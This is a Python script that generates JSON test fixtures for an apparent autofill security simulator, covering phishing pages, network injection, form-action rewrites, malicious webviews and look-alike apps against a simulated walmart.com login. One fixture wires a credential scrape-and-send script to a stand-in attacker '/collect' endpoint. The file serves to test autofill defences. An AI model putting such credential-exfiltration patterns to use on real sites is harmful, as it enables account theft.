"""Regenerate the per-check fixture scenes under src/autofill_sim/data/fixtures."""

from __future__ import annotations

import argparse
import copy
import json
from pathlib import Path

from autofill_sim.attacks import (
    ATTACKER_DOMAIN,
    AttackKind,
    _login_page,
    _scrape_and_send,
    base_scene,
    build_scenario,
    legit_app,
)
from autofill_sim.frameworks import CheckId
from autofill_sim.harness import Suite, context_to_dict
from autofill_sim.model import DomainName, scene_to_dict

VICTIM = DomainName.parse("walmart.com")
V = str(VICTIM)
LOGIN = f"https://{V}/login.html"


def from_attack(kind: AttackKind) -> dict:
    s = build_scenario(kind, VICTIM)
    return {"scene": scene_to_dict(s.scene), "context": context_to_dict(s.context)}


def plain_login(scripts=()) -> dict:
    scene = base_scene(VICTIM)
    scene["domains"][V]["documents"]["/login.html"] = _login_page(scripts=scripts)
    return {"scene": scene, "context": {"kind": "browser", "url": LOGIN, "frames": [], "form": 0}}


def phishing_page() -> dict:
    scene = base_scene(VICTIM)
    scene["domains"][ATTACKER_DOMAIN]["documents"]["/login.html"] = _login_page()
    url = f"https://{ATTACKER_DOMAIN}/login.html"
    return {"scene": scene, "context": {"kind": "browser", "url": url, "frames": [], "form": 0}}


def with_legit_app(fixture: dict) -> dict:
    out = copy.deepcopy(fixture)
    app = legit_app(VICTIM)
    scene = out["scene"]
    if not any(a["package_id"] == app["package_id"] for a in scene["apps"]):
        scene["apps"].append(app)
    mappings = scene["vault"].setdefault("manual_app_mappings", [])
    entry = {"package_id": app["package_id"], "domain": V}
    if entry not in mappings:
        mappings.append(entry)
    return out


def in_webview(fixture: dict) -> dict:
    out = with_legit_app(fixture)
    ctx = out["context"]
    out["context"] = {
        "kind": "webview",
        "host": legit_app(VICTIM)["package_id"],
        **{k: v for k, v in ctx.items() if k != "kind"},
    }
    return out


def native(package: str | None = None) -> dict:
    out = with_legit_app({"scene": base_scene(VICTIM), "context": {}})
    package = package or legit_app(VICTIM)["package_id"]
    out["context"] = {"kind": "native", "app": package, "requested_domain": V}
    return out


def native_attacker_app() -> dict:
    out = native("com.attacker.shopper")
    out["scene"]["apps"].append(
        {"package_id": "com.attacker.shopper", "signing_key": "attacker-key"}
    )
    return out


def browser_fixtures() -> dict[CheckId, dict]:
    return {
        CheckId.INTERACTION_REQUIRED: plain_login(),
        CheckId.DOMAIN_MAPPING: phishing_page(),
        CheckId.HTTPS_DOWNGRADE: from_attack(AttackKind.NETWORK_INJECTION_HTTP),
        CheckId.BAD_CERT: from_attack(AttackKind.NETWORK_INJECTION_BAD_CERT),
        CheckId.FILL_ON_TRANSMISSION: plain_login(
            _scrape_and_send(f"https://{ATTACKER_DOMAIN}/collect")
        ),
        CheckId.ACTION_STATIC: from_attack(AttackKind.ACTION_REWRITE_STATIC),
        CheckId.ACTION_DYNAMIC: from_attack(AttackKind.ACTION_REWRITE_DYNAMIC),
        CheckId.METHOD_GET: from_attack(AttackKind.GET_METHOD_LEAK),
        CheckId.CROSS_ORIGIN_IFRAME: from_attack(AttackKind.CROSS_ORIGIN_IFRAME_PHISH),
    }


def webview_fixtures() -> dict[CheckId, dict]:
    out = {check: in_webview(f) for check, f in browser_fixtures().items()}
    out[CheckId.DOMAIN_MAPPING] = from_attack(AttackKind.WEBVIEW_MALICIOUS_PAGE)
    out[CheckId.WEBVIEW_HOST_ACCESS] = from_attack(AttackKind.WEBVIEW_MALICIOUS_APP)
    return out


def native_fixtures() -> dict[CheckId, dict]:
    return {
        CheckId.INTERACTION_REQUIRED: native(),
        CheckId.APP_TO_DOMAIN: native_attacker_app(),
        CheckId.DOMAIN_TO_APP: from_attack(AttackKind.LOOK_ALIKE_APP),
        CheckId.OTHER_APP_ACCESS: native(),
        CheckId.WEBVIEW_HOST_ACCESS: native(),
    }


def main() -> None:
    default = Path(__file__).resolve().parents[1] / "src/autofill_sim/data/fixtures"
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", type=Path, default=default)
    args = parser.parse_args()
    suites = {
        Suite.BROWSER: browser_fixtures(),
        Suite.NATIVE: native_fixtures(),
        Suite.WEBVIEW: webview_fixtures(),
    }
    for suite, fixtures in suites.items():
        folder = args.out / suite.value
        folder.mkdir(parents=True, exist_ok=True)
        for check, fixture in fixtures.items():
            data = {"check": check.value, **fixture}
            text = json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
            (folder / f"{check.value}.json").write_text(text)
            print(folder / f"{check.value}.json")


if __name__ == "__main__":
    main()
